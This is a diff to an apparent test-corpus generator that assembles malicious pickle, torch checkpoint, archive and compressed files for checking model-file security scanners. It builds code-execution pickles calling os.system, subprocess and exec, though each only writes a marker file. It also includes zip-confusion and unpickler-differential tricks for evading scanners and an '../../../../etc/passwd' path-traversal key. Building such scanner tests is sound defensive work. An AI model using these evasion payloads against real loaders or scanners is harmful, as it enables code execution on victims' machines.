@@ -7,9 +7,12 @@ without running anything, and ``manifest.json`` describing each of them.
 
 Every file is assembled here from raw bytes: pickles from opcodes, zips from headers,
 DEFLATE streams from a small deterministic encoder (so the output does not depend on
-the zlib build). Nothing is ever unpickled; the only pickle-related module used is
-``pickletools``, to check that the streams meant to be well formed disassemble.
-Running the generator twice gives byte-identical output.
+the zlib build), and the other compressed and archive formats by ``wrappers.py``. The
+exceptions are the sparse, quantized, nested and wrapper-subclass tensors, which real
+torch (2.13, as pinned for the tests) saves before their bytes are edited, so that
+everything but the edit is what torch writes. Nothing is ever unpickled; the only
+pickle-related module used is ``pickletools``, to check that the streams meant to be
+well formed disassemble. Running the generator twice gives byte-identical output.
 
 Every code-execution payload, if it ever ran, would create ``tensorplay_pwned_marker``
 in the current directory.
@@ -20,6 +23,15 @@ holds a code-execution global or extension code, else ``"unreadable"``) and
 ``dangerous_globals`` (the ``module.name`` of each code-execution global a scanner
 must report, after Python 2 name mapping; globals only reachable by unpacking an
 embedded pickle or archive are listed when the nesting is the file's whole point).
+
+``load_error`` is the first refusal in the order a strict loader meets them: an archive
+is checked before its pickle runs (so a zip that readers disagree on is malformed,
+whatever its pickles hold), compressed files, 7z and raw pickles are not checkpoints
+(malformed) and a tar is torch's refused legacy format (unsupported); in a pickle, an
+unsafe global is unsafe unless bytes before it are already read apart by CPython's
+unpicklers (then the pickle is malformed there). A global named by the very opcode
+the readers part at (a last GLOBAL line without its newline, INST without a MARK,
+GLOBAL across a FRAME's end) is reached first, so unsafe.
 """
 from __future__ import annotations
 
@@ -31,10 +43,14 @@ import pathlib
 import pickletools
 import shutil
 import struct
+import sys
 import tarfile
 import zlib
 
 HERE = pathlib.Path(__file__).resolve().parent
+sys.path.insert(0, str(HERE))
+import wrappers  # noqa: E402 - the sibling module, importable however this file is run
+
 MARKER = "tensorplay_pwned_marker"
 TOUCH = f"touch {MARKER}"
 PY_MARKER = f"open({MARKER!r}, 'w').close()"
@@ -413,9 +429,10 @@ def _check_deflate(data: bytes, segments) -> None:
 class Entry:
     def __init__(self, name, data, *, method=0, usize=None, crc=None, flags=0, align=True,
                  lfh_name=None, lfh_method=None, lfh_sizes=None, lfh_crc=None,
-                 cd_sizes=None, cd_offset=None, plain=None):
+                 cd_sizes=None, cd_offset=None, plain=None, after=b""):
         """`data` is the payload as stored; `plain` the uncompressed bytes (for the CRC)
-        when it differs. Every `lfh_*`/`cd_*` field overrides one header alone."""
+        when it differs. Every `lfh_*`/`cd_*` field overrides one header alone. `after`
+        is written right after the payload (a data descriptor)."""
         self.name, self.data, self.method = name, data, method
         self.usize = len(data) if usize is None else usize
         if crc is None:
@@ -424,6 +441,7 @@ class Entry:
         self.lfh_name, self.lfh_method, self.lfh_sizes = lfh_name, lfh_method, lfh_sizes
         self.lfh_crc = lfh_crc
         self.cd_sizes, self.cd_offset = cd_sizes, cd_offset
+        self.after = after
 
 
 def _zip64_extra(values: list[int]) -> bytes:
@@ -432,12 +450,13 @@ def _zip64_extra(values: list[int]) -> bytes:
     return struct.pack("<HH", 1, 8 * len(values)) + b"".join(struct.pack("<Q", v) for v in values)
 
 
-def zip_archive(entries: list[Entry], *, eocd_entries=None) -> bytes:
-    """Local headers and payloads, then the central directory and end records."""
+def zip_pieces(entries: list[Entry], base: int = 0) -> tuple[bytes, list[bytes]]:
+    """The local headers with their payloads, and one central directory record per
+    entry, for an archive whose first local header sits at file offset `base`."""
     out = bytearray()
     central = []
     for e in entries:
-        offset = len(out)
+        offset = base + len(out)
         name = (e.lfh_name if e.lfh_name is not None else e.name).encode()
         csize, usize = e.lfh_sizes if e.lfh_sizes is not None else (len(e.data), e.usize)
         big = csize >= 0xFFFFFFFF or usize >= 0xFFFFFFFF
@@ -453,9 +472,9 @@ def zip_archive(entries: list[Entry], *, eocd_entries=None) -> bytes:
             e.method if e.lfh_method is None else e.lfh_method,
             0, 0x21, e.crc if e.lfh_crc is None else e.lfh_crc, csize, usize, len(name), len(extra),
         )
-        out += name + extra + e.data
+        out += name + extra + e.data + e.after
         central.append((e, offset))
-    cd_start = len(out)
+    records = []
     for e, offset in central:
         name = e.name.encode()
         csize, usize = e.cd_sizes if e.cd_sizes is not None else (len(e.data), e.usize)
@@ -464,19 +483,39 @@ def zip_archive(entries: list[Entry], *, eocd_entries=None) -> bytes:
         extra = _zip64_extra(z64)
         usize = min(usize, 0xFFFFFFFF)
         csize = min(csize, 0xFFFFFFFF)
-        out += struct.pack(
+        records.append(struct.pack(
             "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 45 if z64 else 20, e.flags, e.method, 0, 0x21,
             e.crc, csize, usize, len(name), len(extra), 0, 0, 0, 0, offset,
-        )
-        out += name + extra
-    cd_size = len(out) - cd_start
-    count = len(central) if eocd_entries is None else eocd_entries
+        ) + name + extra)
+    return bytes(out), records
+
+
+def zip64_end(count: int, cd_size: int, cd_start: int, at: int) -> bytes:
+    """A ZIP64 end of central directory record at file offset `at`, and its locator."""
+    return (struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, count, count, cd_size, cd_start)
+            + struct.pack("<IIQI", 0x07064B50, 0, at, 1))
+
+
+def eocd(count: int, cd_size: int, cd_start: int, *, disk_count: int | None = None, comment: bytes = b"") -> bytes:
+    """An end of central directory record; `disk_count` (entries on this disk) may
+    differ from the total `count`."""
+    disk_count = count if disk_count is None else disk_count
+    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(disk_count, 0xFFFF), min(count, 0xFFFF),
+                       cd_size, cd_start, len(comment)) + comment
+
+
+def zip_archive(entries: list[Entry], *, eocd_entries=None, base: int = 0) -> bytes:
+    """Local headers and payloads, then the central directory and end records; `base`
+    is where the archive starts in the file it will be part of."""
+    local, records = zip_pieces(entries, base)
+    out = bytearray(local)
+    cd_start = base + len(out)
+    out += b"".join(records)
+    cd_size = base + len(out) - cd_start
+    count = len(records) if eocd_entries is None else eocd_entries
     if count >= 0xFFFF:
-        z64_at = len(out)
-        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, count, count, cd_size, cd_start)
-        out += struct.pack("<IIQI", 0x07064B50, 0, z64_at, 1)
-    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
-                       cd_size, cd_start, 0)
+        out += zip64_end(count, cd_size, cd_start, base + len(out))
+    out += eocd(count, cd_size, cd_start)
     return bytes(out)
 
 
@@ -1106,6 +1145,695 @@ def tensor_family(c: Corpus) -> None:
         tensor(storage_pid(key="../../../../etc/passwd")))
 
 
+# --------------------------------------------------------------------------------------
+# compressed_wrapper. A loader reads none of these formats (a load refuses
+# them as malformed; a tar is torch's refused legacy format), but a scanner must unwrap
+# each the way Python's own modules do (gzip, bz2, lzma, zlib, tarfile, zipfile; zstd
+# and 7z as their reference decoders do) and find the payload inside.
+
+def raw_deflate(data: bytes) -> bytes:
+    return deflate([(data, 1)])
+
+
+def gzipped(data: bytes, **header) -> bytes:
+    return wrappers.gzip_member(raw_deflate(data), data, **header)
+
+
+def checkpoint_records(pickle_bytes: bytes) -> list[tuple[str, bytes]]:
+    """A torch checkpoint's records as loose files, for archives that are not zips."""
+    return [("archive/data.pkl", pickle_bytes), ("archive/byteorder", b"little"),
+            ("archive/data/0", FLOATS4), ("archive/version", b"3\n")]
+
+
+BENIGN_RAW = pkl(dct((u("epoch"), i(3))))
+
+
+def compressed_family(c: Corpus) -> None:
+    fam = "compressed_wrapper"
+    add = c.add
+    ckpt = tensor_checkpoint(MALICIOUS_PKL)
+
+    add("pickle.pkl.gz", fam, "gzip (one member, DEFLATE) of a raw pickle calling os.system",
+        MALFORMED, gzipped(MALICIOUS_PKL), ["os.system"])
+    add("checkpoint.pt.gz", fam, "gzip of a torch zip checkpoint whose data.pkl calls os.system",
+        MALFORMED, gzipped(ckpt), ["os.system"])
+    add("gzipped_checkpoint.pt", fam,
+        "a gzipped malicious torch checkpoint named .pt (FNAME field 'model.pt'): what it is comes from "
+        "its content, not its name", MALFORMED, gzipped(ckpt, name=b"model.pt"), ["os.system"])
+    add("gzip_header_fields.pkl.gz", fam,
+        "gzip whose header has FEXTRA, FNAME and FCOMMENT fields before the stream (a reader that assumes "
+        "the 10-byte minimal header inflates garbage)",
+        MALFORMED, gzipped(MALICIOUS_PKL, extra=b"TP\x04\x00\x01\x02\x03\x04", name=b"weights.pkl",
+                        comment=b"weights, epoch 3"), ["os.system"])
+    add("gzip_two_members.pkl.gz", fam,
+        "two gzip members, a benign pickle then one calling os.system: gzip.decompress joins every "
+        "member; a reader that stops after the first sees only the benign one",
+        MALFORMED, gzipped(BENIGN_RAW) + gzipped(MALICIOUS_PKL), ["os.system"])
+    add("gzip_of_gzip.pkl.gz.gz", fam, "gzip of a gzip of a pickle calling os.system",
+        MALFORMED, gzipped(gzipped(MALICIOUS_PKL)), ["os.system"])
+    popen = pkl(call(glob("subprocess", "call"), lst(u("touch"), u(MARKER))))
+    add("pickle.pkl.bz2", fam, "bzip2 of a raw pickle calling subprocess.call(['touch', marker])",
+        MALFORMED, wrappers.bzip2(popen), ["subprocess.call"])
+    add("bzip2_two_streams.pkl.bz2", fam,
+        "two bzip2 streams, a benign pickle then one calling os.system: bz2.decompress joins them",
+        MALFORMED, wrappers.bzip2(BENIGN_RAW) + wrappers.bzip2(MALICIOUS_PKL), ["os.system"])
+    add("checkpoint.pt.xz", fam, "xz (one LZMA2 block, CRC32 check) of a malicious torch checkpoint",
+        MALFORMED, wrappers.xz(ckpt), ["os.system"])
+    add("pickle.pkl.lzma", fam,
+        "LZMA-alone (lzma.FORMAT_ALONE) of a raw malicious pickle; the header's first byte 0x5D is also "
+        "the pickle opcode EMPTY_LIST, so the file reads as a (broken) pickle too",
+        MALFORMED, wrappers.lzma_alone(MALICIOUS_PKL), ["os.system"])
+    add("checkpoint.pt.lzma", fam, "LZMA-alone of a malicious torch checkpoint",
+        MALFORMED, wrappers.lzma_alone(ckpt), ["os.system"])
+    exe = pkl(call(glob("builtins", "exec"), u(PY_MARKER)))
+    add("classifier.joblib", fam,
+        "a zlib stream (header 78 5E, what joblib.dump(..., compress='zlib') writes at its level 3) of a "
+        "pickle calling builtins.exec", MALFORMED, wrappers.zlib_stream(raw_deflate(exe), exe), ["builtins.exec"])
+    add("zlib_mark_header.pkl.z", fam,
+        "a zlib stream whose header byte 0x28 (DEFLATE, 1 KiB window) is also the pickle opcode MARK",
+        MALFORMED, wrappers.zlib_stream(raw_deflate(MALICIOUS_PKL), MALICIOUS_PKL, cmf=0x28), ["os.system"])
+    add("checkpoint.pt.zst", fam, "a zstd frame (raw blocks) of a malicious torch checkpoint",
+        MALFORMED, wrappers.zstd_frame(ckpt), ["os.system"])
+    add("zstd_skippable_first.pkl.zst", fam,
+        "a zstd skippable frame holding a benign pickle, then a frame with a pickle calling os.system "
+        "(decoders skip the first frame unread)",
+        MALFORMED, wrappers.zstd_skippable(BENIGN_RAW) + wrappers.zstd_frame(MALICIOUS_PKL), ["os.system"])
+    add("zstd_two_frames.pkl.zst", fam,
+        "two zstd frames, a benign pickle then one calling os.system: decompression joins the frames",
+        MALFORMED, wrappers.zstd_frame(BENIGN_RAW) + wrappers.zstd_frame(MALICIOUS_PKL), ["os.system"])
+
+    # Archives around a pickle.
+    add("pickle_in.tar", fam, "a tar holding a README and model.pkl, a raw pickle calling os.system",
+        UNSUPPORTED, tar_archive([("README", b"weights for the classifier\n"), ("model.pkl", MALICIOUS_PKL)]),
+        ["os.system"])
+    add("checkpoint.tar.gz", fam, "a gzipped tar holding a malicious torch checkpoint (model/archive.pt)",
+        MALFORMED, gzipped(tar_archive([("model/archive.pt", ckpt)])), ["os.system"])
+    add("gzipped_pickle_in.zip", fam, "a plain zip whose stored member model.pkl.gz is a gzipped malicious pickle",
+        MALFORMED, zip_archive([Entry("model.pkl.gz", gzipped(MALICIOUS_PKL), align=False)]), ["os.system"])
+    arr = npy("|O", (1,), object_array_pickle(os_system()))
+    add("object_array_deflated.npz", fam,
+        "an .npz (as np.savez_compressed writes it) whose arr_0.npy is DEFLATE-compressed: an object "
+        "array whose element is os.system(...)",
+        MALFORMED, zip_archive([Entry("arr_0.npy", raw_deflate(arr), method=8, usize=len(arr), plain=arr,
+                                      align=False)]), ["os.system"])
+
+    # 7z, one archive per coder 7-Zip writes by default or on request.
+    posix = pkl(call(glob("posix", "system"), u(TOUCH)))
+    add("pickle_lzma2.7z", fam, "a 7z archive (LZMA2) whose data.pkl is a raw pickle calling posix.system",
+        MALFORMED, wrappers.sevenz([("data.pkl", posix)], wrappers.SEVENZ_LZMA2), ["posix.system"])
+    add("checkpoint_lzma.7z", fam, "a 7z archive (LZMA) holding a malicious torch checkpoint model.pt",
+        MALFORMED, wrappers.sevenz([("model.pt", ckpt)], wrappers.SEVENZ_LZMA), ["os.system"])
+    add("unpacked_checkpoint_bzip2.7z", fam,
+        "a 7z archive (BZip2) of a torch checkpoint's records as loose files: archive/data.pkl (calling "
+        "os.system), byteorder, data/0, version",
+        MALFORMED, wrappers.sevenz(checkpoint_records(MALICIOUS_PKL), wrappers.SEVENZ_BZIP2), ["os.system"])
+    add("pickle_deflate.7z", fam, "a 7z archive (Deflate) whose weights.pkl calls builtins.exec",
+        MALFORMED, wrappers.sevenz([("weights.pkl", exe)], wrappers.SEVENZ_DEFLATE, raw_deflate), ["builtins.exec"])
+    add("pickle_copy.7z", fam, "a 7z archive (Copy: stored) of a README and data.pkl, a pickle calling os.system",
+        MALFORMED, wrappers.sevenz([("README", b"weights for the classifier\n"), ("data.pkl", MALICIOUS_PKL)],
+                                   wrappers.SEVENZ_COPY), ["os.system"])
+    add("sevenzip_named.pt", fam,
+        "a 7z archive (LZMA2) named .pt, holding a torch checkpoint's records with a malicious data.pkl",
+        MALFORMED, wrappers.sevenz(checkpoint_records(MALICIOUS_PKL), wrappers.SEVENZ_LZMA2), ["os.system"])
+
+    # joblib's own container: arrays are written into the pickle stream right after the
+    # BUILD of their NumpyArrayWrapper, and an object array is a nested pickle there,
+    # which joblib reads with pickle.load from the same file.
+    dtype = call(glob("numpy", "dtype"), u("O8"), NEWFALSE, NEWTRUE) + tup(
+        i(3), u("|"), NONE, NONE, NONE, i(-1), i(-1), i(63)) + BUILD
+    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + dct(
+        (u("subclass"), glob("numpy", "ndarray")), (u("shape"), tup(i(1))), (u("order"), u("C")),
+        (u("dtype"), dtype), (u("allow_mmap"), NEWFALSE)) + BUILD
+    add("numpy_wrapper.joblib", fam,
+        "a joblib.dump file: a dict whose value is a joblib NumpyArrayWrapper of an object array; the "
+        "array's bytes, a pickle calling os.system, follow the wrapper's BUILD inside the outer stream",
+        MALFORMED, proto(2) + EMPTY_DICT + u("weights") + wrapper + MALICIOUS_PKL + SETITEM + STOP,
+        ["joblib.numpy_pickle.NumpyArrayWrapper", "os.system"])
+
+
+# --------------------------------------------------------------------------------------
+# zip_confusion. Archives that zip readers read as different sets of entries:
+# the payload sits where one reader looks and another does not.
+
+def _ckpt_entries(data_pkl: bytes) -> list[Entry]:
+    return [Entry("archive/data.pkl", data_pkl), Entry("archive/byteorder", b"little"),
+            Entry("archive/data/0", FLOATS4), Entry("archive/version", b"3\n")]
+
+
+def zip_confusion_family(c: Corpus) -> None:
+    fam = "zip_confusion"
+    add = c.add
+
+    # A benign checkpoint followed by one more local header: a second archive/data.pkl.
+    entries = _ckpt_entries(BENIGN_PKL) + [Entry("archive/data.pkl", MALICIOUS_PKL)]
+    local, records = zip_pieces(entries)
+    cd = b"".join(records)
+    add("eocd_count_one_short.pt", fam,
+        "the central directory holds 5 records, the end record counts 4: the fifth, a second "
+        "archive/data.pkl calling os.system, is inside the directory's declared size but past its count",
+        MALFORMED, local + cd + eocd(4, len(cd), len(local)), ["os.system"])
+    add("eocd_size_one_record_short.pt", fam,
+        "the end record counts all 5 directory records but its directory size covers only 4: the fifth "
+        "(a second archive/data.pkl calling os.system) is counted yet outside the declared directory",
+        MALFORMED, local + cd + eocd(5, len(b"".join(records[:4])), len(local)), ["os.system"])
+    add("eocd_disk_count_differs.pt", fam,
+        "the end record says 4 entries on this disk and 5 in total (zipfile reads the total): the fifth "
+        "is a second archive/data.pkl calling os.system",
+        MALFORMED, local + cd + eocd(5, len(cd), len(local), disk_count=4), ["os.system"])
+
+    # Two directories over the same local headers: one names the benign data.pkl, the
+    # other the malicious one. The end records disagree on which is the directory;
+    # each directory sits where its own end record's reader expects it.
+    benign_cd = b"".join(records[:4])
+    evil_cd = b"".join([records[4]] + records[1:4])
+    at_evil = len(local)
+    comment = benign_cd + eocd(4, len(benign_cd), at_evil + len(evil_cd) + 22)
+    add("eocd_in_comment.pt", fam,
+        "the end record points at a central directory whose data.pkl calls os.system; its comment holds a "
+        "benign directory and a second end record pointing at that, which ends the file: zipfile and torch "
+        "take the last end record and see a benign checkpoint",
+        MALFORMED, local + evil_cd + eocd(4, len(evil_cd), at_evil, comment=comment), ["os.system"])
+    at_benign = at_evil + len(evil_cd)
+    z64 = zip64_end(4, len(benign_cd), at_benign, at_benign + len(benign_cd))
+    add("zip64_end_disagrees.pt", fam,
+        "two central directories: the ZIP64 end record (which zipfile prefers) points at the benign one, "
+        "the 32-bit end record, whose fields are not saturated, at the one whose data.pkl calls os.system",
+        MALFORMED, local + evil_cd + benign_cd + z64 + eocd(4, len(evil_cd), at_evil), ["os.system"])
+    add("cd_points_past_first_data_pkl.pt", fam,
+        "two local headers named archive/data.pkl, a benign one first; the central directory's only "
+        "data.pkl record points at the second, which calls os.system (a stream reader takes the first)",
+        MALFORMED, local + evil_cd + eocd(4, len(evil_cd), at_evil), ["os.system"])
+
+    orphan, _ = zip_pieces([Entry("archive/data.pkl", MALICIOUS_PKL)])
+    add("unreferenced_local_header.pt", fam,
+        "a benign checkpoint preceded by a local header archive/data.pkl calling os.system that no "
+        "directory record points at: only a reader walking the local headers reaches it",
+        MALFORMED, orphan + zip_archive(_ckpt_entries(BENIGN_PKL), base=len(orphan)), ["os.system"])
+    first = tensor_checkpoint(MALICIOUS_PKL)
+    add("two_end_records.pt", fam,
+        "two complete archives back to back, each with its own end record: a malicious checkpoint, then a "
+        "benign one whose offsets count from the file's start (readers from the end see the benign one)",
+        MALFORMED, first + zip_archive(_ckpt_entries(BENIGN_PKL), base=len(first)), ["os.system"])
+    add("duplicate_name_case_first.pt", fam,
+        "archive/Data.Pkl (calling os.system) listed first, then archive/data.pkl (benign): an exact-name "
+        "lookup reads the benign one, a case-insensitive one the malicious one",
+        MALFORMED, zip_archive([Entry("archive/Data.Pkl", MALICIOUS_PKL)] + _ckpt_entries(BENIGN_PKL)),
+        ["os.system"])
+
+    # Data descriptors (flag bit 3, as torch writes every entry): sizes after the data.
+    def descriptor(data: bytes) -> bytes:
+        return struct.pack("<IIII", 0x08074B50, zlib.crc32(data), len(data), len(data))
+
+    hidden = proto(2) + SHORT_BINBYTES + bytes([16])
+    body = hidden + descriptor(hidden) + POP + os_system() + STOP
+    check_pickle(body)
+    add("descriptor_signature_in_data.pt", fam,
+        "data.pkl (flag bit 3, zero sizes in its local header) holds, 4 bytes in, a data descriptor "
+        "matching those 4 bytes (inside a SHORT_BINBYTES): a stream reader ends the entry there; the "
+        "directory's size covers the whole pickle, which calls os.system",
+        UNSAFE, tensor_checkpoint(body, pkl_entry=Entry("archive/data.pkl", body, flags=0x0808, lfh_sizes=(0, 0),
+                                                          lfh_crc=0, after=descriptor(body))), ["os.system"])
+    add("descriptor_sizes_disagree.pt", fam,
+        "data.pkl (flag bit 3) is followed by a data descriptor declaring 0 bytes and CRC 0, while the "
+        "central directory gives the real size of a pickle calling os.system",
+        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(
+            "archive/data.pkl", MALICIOUS_PKL, flags=0x0808, lfh_sizes=(0, 0), lfh_crc=0,
+            after=struct.pack("<IIII", 0x08074B50, 0, 0, 0))), ["os.system"])
+
+
+# --------------------------------------------------------------------------------------
+# pickle_differential. Bytes CPython's two unpicklers (the C one, from
+# memory or from a file, and pickle.py) read differently. torch.load reads data.pkl
+# with the C unpickler from an io.BytesIO (no peek()): an argument that runs past its
+# FRAME is read afresh from the frame's end (the rest of the frame is dropped; only the
+# bytes opcodes copy it first), while a reader of the bytes in memory reads on across
+# it; pickle.py refuses both. Text arguments are parsed by strtol or
+# PyOS_string_to_double in C and by int()/float() in pickle.py.
+
+def frame_op(body: bytes) -> bytes:
+    return FRAME + struct.pack("<Q", len(body))
+
+
+def pickle_differential_family(c: Corpus) -> None:
+    fam = "pickle_differential"
+
+    def zipped(file, description, data, dangerous, load_error=MALFORMED):
+        c.add(file, fam, description, load_error, tensor_checkpoint(data), dangerous)
+
+    # The text a BINUNICODE straddling the frame end reads: for a reader of memory, the
+    # 5 bytes left in the frame and 5 after it; for torch.load, the 10 bytes after it.
+    payload = os_system()
+    hider = BINBYTES + struct.pack("<I", len(payload))
+    inside = u("weights") + POP + BINUNICODE + struct.pack("<I", 5 + len(hider)) + b"epoch"
+    tail = b"three" + hider + payload + POP + POP + EMPTY_DICT + STOP
+    zipped("frame_straddle_binunicode.pt",
+           "a BINUNICODE crosses its FRAME's end: read from memory, its text ends 5 bytes past the frame and "
+           "a BINBYTES then swallows GLOBAL os.system as data; torch.load (C, from a BytesIO) reads the text "
+           "from the frame's end instead and runs os.system; pickle.py refuses",
+           proto(4) + frame_op(inside) + inside + tail, ["os.system"])
+
+    run = os_system() + STOP
+    outer = frame_op(run) + EMPTY_DICT + BINBYTES + struct.pack("<I", len(run) - 1)
+    zipped("frame_inside_frame.pt",
+           "a FRAME inside a FRAME, longer than what is left of the outer one: torch.load's reader fetches "
+           "the inner frame from the outer frame's end and runs os.system there; a reader of memory goes "
+           "on inside the outer frame, where a BINBYTES swallows the payload; pickle.py refuses",
+           proto(4) + frame_op(outer) + outer + run, ["os.system"])
+
+    second = proto(4) + os_system() + STOP
+    inside = EMPTY_DICT + STOP + SHORT_BINBYTES + bytes([len(second)])
+    c.add("stop_inside_frame.pkl", fam,
+          "a raw pickle stream whose first pickle stops inside its FRAME: a file reader (pickle.load, "
+          "called again) starts the next pickle at the frame's end, where one calls os.system; a reader of "
+          "memory starts it right after STOP, where a SHORT_BINBYTES swallows that pickle as data",
+          MALFORMED, proto(4) + frame_op(inside) + inside + second + STOP, ["os.system"])
+
+    # Text arguments: the payload follows the argument, so it runs only under the
+    # unpickler that reads the argument.
+    for file, line, who in (
+        ("int_leading_zero.pt", b"I010\n", "C reads 010 as octal 8 and runs os.system after it; pickle.py "
+                                           "(int(s, 0)) refuses"),
+        ("int_nul_suffix.pt", b"I1\x00zz\n", "C parses up to the NUL (1) and runs os.system after it; "
+                                              "pickle.py refuses"),
+        ("long_nul_suffix.pt", b"L7\x00zL\n", "C parses up to the NUL (7) and runs os.system after it; "
+                                               "pickle.py refuses"),
+        ("float_overflow.pt", b"F1e500\n", "pickle.py reads infinity and runs os.system after it; C raises "
+                                           "OverflowError"),
+        ("float_underscore.pt", b"F1_0.5\n", "pickle.py reads 10.5 and runs os.system after it; C refuses "
+                                             "the underscore"),
+    ):
+        body = proto(2) + line + POP + os_system() + STOP
+        zipped(file, f"text argument {line[:-1]!r}: {who}", body, ["os.system"])
+    body = (proto(4) + su("os") + su("system") + b"p99999999999\n" + POP + b"g99999999999\n" + STACK_GLOBAL
+            + su(TOUCH) + TUPLE1 + REDUCE + STOP)
+    zipped("memo_key_huge.pt",
+           "text PUT and GET of memo key 99999999999 around STACK_GLOBAL's name: pickle.py's dict memo "
+           "holds it and reaches os.system; C's memo array cannot grow that far (MemoryError)",
+           body, ["os.system"])
+    body = (proto(4) + su("os") + b"p1\x00zz\n" + POP + su("system") + b"p2\n" + POP + b"g1\n" + b"g2\x00q\n"
+            + STACK_GLOBAL + su(TOUCH) + TUPLE1 + REDUCE + STOP)
+    zipped("memo_key_nul.pt",
+           "text PUT and GET whose memo keys have a NUL (p1\\0zz, g2\\0q): C reads the keys up to the NUL "
+           "and reaches os.system through STACK_GLOBAL; pickle.py refuses the first key",
+           body, ["os.system"])
+
+    # STACK_GLOBAL fed by py2 str opcodes: both unpicklers decode them to str (torch.load
+    # passes encoding='utf-8'), so both call the function; scanners that only track
+    # SHORT_BINUNICODE before STACK_GLOBAL see no name.
+    def binstring(s: str) -> bytes:
+        return BINSTRING + struct.pack("<i", len(s)) + s.encode()
+
+    for file, op, make, module, name, arg in (
+        ("stack_global_string.pt", "STRING", text_string, "os", "system", TOUCH),
+        ("stack_global_binstring.pt", "BINSTRING", binstring, "subprocess", "getoutput", TOUCH),
+        ("stack_global_short_binstring.pt", "SHORT_BINSTRING", short_binstring, "builtins", "exec", PY_MARKER),
+    ):
+        body = proto(4) + make(module) + make(name) + STACK_GLOBAL + make(arg) + TUPLE1 + REDUCE + STOP
+        check_pickle(body)
+        zipped(file, f"STACK_GLOBAL whose module and name are {op} opcodes ({module}.{name})",
+               body, [f"{module}.{name}"], UNSAFE)
+
+    zipped("global_without_final_newline.pt",
+           "data.pkl ends in GLOBAL 'os\\nsystemX' without the name's newline: pickle.py drops the last byte "
+           "as if it were the newline and resolves os.system; C refuses the truncated line",
+           proto(2) + u(TOUCH) + POP + b"cos\nsystemX", ["os.system"], UNSAFE)
+    zipped("inst_without_mark.pt",
+           "INST os.system with no MARK open: pickle.py imports and resolves os.system before it looks "
+           "for the mark; C looks for the mark first",
+           proto(2) + u(TOUCH) + b"ios\nsystem\n" + STOP, ["os.system"], UNSAFE)
+    body = b"cos\nsys"
+    zipped("frame_ends_inside_global.pt",
+           "a FRAME ends inside GLOBAL's name line: read from memory the name is 'system'; torch.load's "
+           "reader takes the rest of the line after the frame ('tem'); pickle.py refuses",
+           proto(4) + frame_op(body) + body + b"tem\n" + u(TOUCH) + TUPLE1 + REDUCE + STOP, ["os.system"], UNSAFE)
+
+
+# --------------------------------------------------------------------------------------
+# nested_payload. The outer pickle hands bytes to something that unpickles
+# them; the inner payload is os.system, and a scanner must name it too.
+
+INNER = pkl(os_system())
+
+
+def marshal_bytes(data: bytes) -> bytes:
+    """marshal.dumps(data) for a bytes object: TYPE_STRING, a 4-byte length, the bytes."""
+    return b"s" + struct.pack("<i", len(data)) + data
+
+
+def nested_family(c: Corpus) -> None:
+    fam = "nested_payload"
+
+    def zipped(file, description, body, dangerous, protocol=3):
+        data = pkl(body, protocol)
+        c.add(file, fam, description, UNSAFE, tensor_checkpoint(data), dangerous, wellformed=data)
+
+    body = os_system() + STOP
+    framed = proto(4) + frame_op(body) + body
+    zipped("pickle_loads_framed.pt", "pickle.loads of a protocol 4 pickle whose payload sits in a FRAME",
+           call(glob("pickle", "loads"), binbytes(framed)), ["pickle.loads", "os.system"])
+    zipped("pickle_load_bytesio.pt", "_pickle.load(io.BytesIO(inner)): the C unpickler reading a file object",
+           call(glob("_pickle", "load"), call(glob("io", "BytesIO"), binbytes(INNER))), ["_pickle.load", "os.system"])
+    zipped("pickle_loads_twice.pt", "pickle.loads of a pickle that itself calls pickle.loads on the payload",
+           call(glob("pickle", "loads"), binbytes(pkl(call(glob("pickle", "loads"), binbytes(INNER)), 3))),
+           ["pickle.loads", "os.system"])
+    zipped("load_from_bytes_zip.pt",
+           "torch.storage._load_from_bytes (torch.load with weights_only=False) of a malicious torch checkpoint",
+           call(glob("torch.storage", "_load_from_bytes"), binbytes(tensor_checkpoint(MALICIOUS_PKL))),
+           ["torch.storage._load_from_bytes", "os.system"])
+    zipped("torch_load_pickle_module.pt",
+           "torch.load(io.BytesIO(checkpoint), None, torch.serialization.pickle): passing a pickle_module "
+           "makes torch.load default to weights_only=False",
+           call(glob("torch", "load"), call(glob("io", "BytesIO"), binbytes(tensor_checkpoint(MALICIOUS_PKL))),
+                NONE, glob("torch.serialization", "pickle")),
+           ["torch.load", "torch.serialization.pickle", "os.system"])
+    arr = npy("|O", (1,), object_array_pickle(os_system()))
+    zipped("numpy_read_array.pt",
+           "numpy.lib.format.read_array(io.BytesIO(npy), True): allow_pickle on an object array with a payload",
+           call(glob("numpy.lib.format", "read_array"), call(glob("io", "BytesIO"), binbytes(arr)), NEWTRUE),
+           ["numpy.lib.format.read_array", "os.system"])
+    npz = zip_archive([Entry("arr_0.npy", arr, align=False)])
+    zipped("numpy_load_npz.pt",
+           "numpy.load(io.BytesIO(npz), None, True) of an .npz whose arr_0.npy is a malicious object array",
+           call(glob("numpy", "load"), call(glob("io", "BytesIO"), binbytes(npz)), NONE, NEWTRUE),
+           ["numpy.load", "os.system"])
+    # Stored DEFLATE blocks keep the inner pickle readable in the file as it is.
+    gz = wrappers.gzip_member(wrappers.stored_deflate(INNER), INNER)
+    zipped("gzip_decompress_then_loads.pt", "pickle.loads(gzip.decompress(gzip bytes of the payload))",
+           call(glob("pickle", "loads"), call(glob("gzip", "decompress"), binbytes(gz))),
+           ["pickle.loads", "os.system"])
+    zipped("marshal_then_loads.pt",
+           "pickle.loads(marshal.loads(b's' + length + payload)): marshal unwraps the bytes first",
+           call(glob("pickle", "loads"), call(glob("marshal", "loads"), binbytes(marshal_bytes(INNER)))),
+           ["pickle.loads", "marshal.loads", "os.system"])
+    zipped("refused_class_state.pt",
+           "a __main__.Model (not allowlisted) built with NEWOBJ, whose BUILD state is a dict carrying the "
+           "payload pickle as bytes (a class whose __setstate__ unpickles its blob runs it)",
+           glob("__main__", "Model") + EMPTY_TUPLE + NEWOBJ
+           + dct((u("epochs"), i(3)), (u("_blob"), binbytes(INNER))) + BUILD, ["os.system"])
+    zipped("refused_class_bytes_state.pt",
